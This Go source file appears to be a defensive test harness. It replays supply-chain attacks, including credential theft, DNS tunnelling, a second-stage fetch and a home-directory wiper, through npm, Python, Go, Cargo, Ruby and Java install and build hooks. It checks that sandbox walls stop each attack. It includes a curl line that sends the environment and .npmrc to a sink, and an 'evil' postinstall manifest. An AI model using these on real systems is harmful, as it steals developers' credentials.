package drill

import (
	"bytes"
	"context"
	"embed"
	"net"
	"strings"

	"github.com/sallyport/sallyport/internal/boundary"
)

// payloads imitate the hostile code of incidents, in several tongues. Addresses
// are put in when a world is made.
//
//go:embed payload
var payloads embed.FS

func payload(name string) string {
	b, err := payloads.ReadFile("payload/" + name)
	if err != nil {
		panic("drill: no payload " + name) // embedded
	}
	return string(b)
}

// The walls that stop links, as reports name them.
const (
	wallSecrets   = "SP1: no secret in the zone"
	wallRoute     = "SP3: no route but the gateway"
	wallProcesses = "own process namespace: no process of the host"
	wallFiles     = "own root: no file of the host"
	wallHandOn    = "SP8: only declared outputs are taken, by digest"
	wallPinned    = "SP5: only code pinned by digest runs with authority"
	wallSource    = "the source is never written back"
	wallLog       = "the log is text: never parsed for commands"
	wallEnd       = "a zone ends with all its processes"
	wallScan      = "outputs and logs are searched for secrets and canaries"
	wallRebuild   = "a second build in a fresh zone must give the same bytes"
	wallVerdict   = "SP7: the signer takes a verdict, not a request"
)

// behaviour is something that hostile code does once it runs, in any tongue.
type behaviour struct {
	technique, verb, title string
	links                  []Link
}

func behaviours() []behaviour {
	return []behaviour{
		{"R09", "log", "secrets into the job log, encoded twice", []Link{
			{"prints credentials of the job, encoded twice", wallSecrets, Theft, func(w *World) bool { return w.stole(w.logLines("log: "), Env, Npmrc, AWS, SSH) }}}},
		{"R10", "environ", "environment of a neighbouring process", []Link{
			{"reads the environment of a process of the machine", wallProcesses, Way, w1("loot-environ", Process)},
			sends("environ"), arrives("environ", Process)}},
		{"R11", "memory", "memory of a neighbouring process", []Link{
			{"reads the memory of a process of the machine", wallProcesses, Way, w1("loot-memory", Memory)},
			sends("memory"), arrives("memory", Memory)}},
		{"R12", "metadata", "credentials of the cloud's metadata service", []Link{
			{"reads the metadata service", wallRoute, Way, func(w *World) bool { return len(w.sinks.got("metadata")) > 0 }},
			sends("metadata"), arrives("metadata", Metadata)}},
		{"R13", "dns", "tunnel through DNS queries", []Link{
			{"sends DNS queries to a server of the attacker", wallRoute, Harm, func(w *World) bool { return w.carried("dns") }},
			{"has a credential to put into them", wallSecrets, Theft, func(w *World) bool { return w.stole(w.sinks.got("dns"), Env) }}}},
		{"R14", "socket", "unix socket that was left visible", []Link{
			{"connects to a socket of the host", wallFiles, Harm, func(w *World) bool { return w.carried("unix") }},
			{"has a credential to send", wallSecrets, Theft, func(w *World) bool { return w.stole(w.sinks.got("unix"), sources()...) }}}},
		{"R16", "smuggle", "secrets inside the artifact", []Link{
			{"puts credentials of the job into an artifact", wallSecrets, Theft, func(w *World) bool { return w.stole(w.read("src/dist/lib.wasm"), sources()...) }}}},
		{"R18", "stage2", "second stage from a host of the attacker", []Link{
			{"fetches and runs a second stage", wallRoute, Harm, func(w *World) bool { return len(w.sinks.got("http/stage2-ran")) > 0 }},
			{"the second stage has credentials to send", wallSecrets, Theft, func(w *World) bool { return w.stole(w.sinks.got("http/stage2-ran"), sources()...) }}}},
		{"R31", "wipe", "wiper of the home directory", []Link{
			{"deletes documents in the home directory", wallFiles, Harm, func(w *World) bool { return len(w.read("home/docs/diary.txt")) == 0 }}}},
		{"R35", "listen", "listener on all addresses", []Link{
			{"is reached by others of the machine", "own network namespace", Harm, func(w *World) bool { return w.carried("reached") }}}},
	}
}

// sends is the link of a road to the attacker, shown by a carrier that holds
// nothing.
func sends(verb string) Link {
	return Link{"sends to a host of the attacker", wallRoute, Harm, func(w *World) bool { return w.carried("http/" + verb) }}
}

// arrives is a canary that came out over the network.
func arrives(verb string, from ...Source) Link {
	return Link{"a credential arrives at the attacker", "", Theft, func(w *World) bool { return w.stole(w.sinks.got("http/"+verb), from...) }}
}

// w1 says that a file of loot in the checkout holds a canary.
func w1(name string, from ...Source) func(w *World) bool {
	return func(w *World) bool { return w.stole(w.read("src/"+name), from...) }
}

// carried says that the carrier arrived at a sink.
func (w *World) carried(sink string) bool {
	for _, v := range views(w.sinks.got(sink)) {
		if bytes.Contains(v, []byte(w.carrier)) {
			return true
		}
	}
	return false
}

// stole says that one of the canaries is in the bytes, in any encoding.
func (w *World) stole(b []byte, from ...Source) bool {
	for _, s := range w.kit.find(b) {
		for _, f := range from {
			if s == f {
				return true
			}
		}
	}
	return false
}

// logLines are the lines of the log with a prefix.
func (w *World) logLines(prefix string) []byte {
	var all []byte
	for line := range bytes.Lines(w.log.Bytes()) {
		if _, rest, ok := bytes.Cut(line, []byte(prefix)); ok {
			all = append(all, rest...)
		}
	}
	return all
}

// steals are the links of the techniques that differ only in how code comes to
// run: it reads credentials and sends them off.
func steals() []Link {
	return []Link{
		{"reads credentials of the job", wallSecrets, Way, w1("loot-steal", Env, Npmrc, AWS, SSH)},
		sends("steal"), arrives("steal", Env, Npmrc, AWS, SSH),
	}
}

// tongue is one way in which code of others comes to run, and what it does then.
type tongue struct {
	name    string
	needs   []string
	files   map[string]string
	zone    boundary.Zone
	command string
	ways    []behaviour // techniques by which it comes to run
	verbs   []string
	prepare func(context.Context, *World) error
}

// tongueCases replay every behaviour in every tongue: one step each, which does
// all of it in turn.
func tongueCases() []Case {
	var out []Case
	for _, t := range tongues() {
		files := map[string]string{}
		for name, text := range t.files {
			files[name] = fillVerbs(text, t.verbs)
		}
		c := Case{Name: t.name, Tongue: t.name, Needs: t.needs, Files: files, Prepare: prepareTongue(t.prepare),
			Acts: []Act{{Stages: []Stage{{Zone: t.zone, Command: t.command}}}}}
		for _, b := range t.ways {
			c.Attacks = append(c.Attacks, Attack{ID: b.technique + "." + t.name, Technique: b.technique, Title: b.title, Links: b.links})
		}
		for _, b := range behaviours() {
			for _, v := range t.verbs {
				if v == b.verb {
					c.Attacks = append(c.Attacks, Attack{ID: b.technique + "." + t.name, Technique: b.technique, Title: b.title, Links: b.links})
				}
			}
		}
		out = append(out, c)
	}
	return out
}

// prepareTongue sets up the sinks that answer: a second stage, and whoever calls
// back a listener that says where it is.
func prepareTongue(more func(context.Context, *World) error) func(context.Context, *World) error {
	return func(ctx context.Context, w *World) error {
		w.sinks.answer("/stage2.sh", []byte("curl -sm2 -d \"$(env; cat '"+w.Home+"/.npmrc')\" http://"+w.sinks.HTTP+"/stage2-ran"))
		w.sinks.callBack = func(port string) {
			if c, err := net.Dial("tcp", "127.0.0.1:"+strings.TrimSpace(port)); err == nil {
				w.sinks.drain(c, "reached")
			}
		}
		if more != nil {
			return more(ctx, w)
		}
		return nil
	}
}

func way(technique, title string) []behaviour {
	return []behaviour{{technique, "steal", title, steals()}}
}

func tongues() []tongue {
	all := []string{"steal", "log", "environ", "memory", "metadata", "dns", "socket", "smuggle", "stage2", "wipe", "listen"}
	manifest := `{"name": "evil", "version": "1.0.0", "scripts": {"postinstall": "node payload.js @VERBS@"}}`
	return []tongue{
		{name: "npm", needs: []string{"npm", "node"}, zone: boundary.Generate, verbs: all,
			ways:    way("R01", "npm lifecycle script"),
			files:   map[string]string{"package.json": `{"name": "victim", "version": "1.0.0"}`, "evil/package.json": manifest, "evil/payload.js": payload("payload.js")},
			command: "npm pack ./evil --silent && npm install --offline --foreground-scripts ./evil-1.0.0.tgz"},
		{name: "python", needs: []string{"/usr/bin/python3"}, zone: boundary.Build, verbs: all,
			ways:    way("R04", "setup.py of a source distribution"),
			files:   map[string]string{"evil/setup.py": "import sys\nsys.path.insert(0, '.')\nimport payload\npayload.run('@VERBS@'.split())\n", "evil/payload.py": payload("payload.py")},
			command: "cd evil && /usr/bin/python3 setup.py --name"},
		{name: "go", needs: []string{"go"}, zone: boundary.Test, verbs: all,
			ways: way("R07", "init function under go test"),
			files: map[string]string{"go.mod": "module victim.example/v\n\ngo 1.21\n", "main.go": payload("payload.go.txt"),
				"main_test.go": "package main\n\nimport \"testing\"\n\nfunc init() { run(\"@VERBS@\") }\n\nfunc TestNothing(*testing.T) {}\n\nfunc main() {}\n"},
			command: "go test -v ."},
		{name: "cargo", needs: []string{"cargo", "cc"}, zone: boundary.Build, verbs: []string{"environ", "socket", "smuggle", "stage2", "wipe"},
			ways: way("R06", "build.rs of a crate"),
			files: map[string]string{"Cargo.toml": "[package]\nname = \"victim\"\nversion = \"0.1.0\"\nedition = \"2021\"\nbuild = \"build.rs\"\n",
				"src/main.rs": "fn main() {}\n", "build.rs": payload("build.rs.txt")},
			command: "cargo build --offline -vv"},
		{name: "ruby", needs: []string{"/usr/bin/ruby", "/usr/bin/gem"}, zone: boundary.Generate, verbs: []string{"steal", "log", "environ", "metadata", "smuggle", "stage2", "wipe"},
			ways: way("R04", "extconf.rb of a gem"),
			files: map[string]string{"evil/evil.gemspec": gemspec, "evil/ext/payload.rb": payload("payload.rb"),
				"evil/ext/extconf.rb": "require_relative 'payload'\nrun('@VERBS@'.split)\nFile.write('Makefile', \"all install clean:\\n\")\n"},
			// What the script prints goes to gem_make.out.
			command: "cd evil && gem build --silent evil.gemspec && gem install --local --no-document --install-dir ../gems ./evil-1.0.0.gem; cat ../gems/extensions/*/*/evil-1.0.0/gem_make.out"},
		{name: "java", needs: []string{"javac"}, zone: boundary.Build, verbs: []string{"log", "environ", "wipe"},
			ways:    way("R06", "annotation processor of a dependency"),
			files:   map[string]string{"Processor.java": payload("Processor.java.txt"), "Main.java": "public class Main {}\n"},
			command: "mkdir -p lib && javac -proc:none -d lib Processor.java && javac -cp lib -processor Processor Main.java"},
	}
}

const gemspec = `Gem::Specification.new do |s|
  s.name, s.version, s.summary, s.authors = 'evil', '1.0.0', 'a gem', ['drill']
  s.files, s.extensions = ['ext/extconf.rb', 'ext/payload.rb'], ['ext/extconf.rb']
end
`

// fillVerbs is what the templates of tongues know beside the world's own.
func fillVerbs(text string, verbs []string) string {
	return strings.ReplaceAll(text, "@VERBS@", strings.Join(verbs, " "))
}
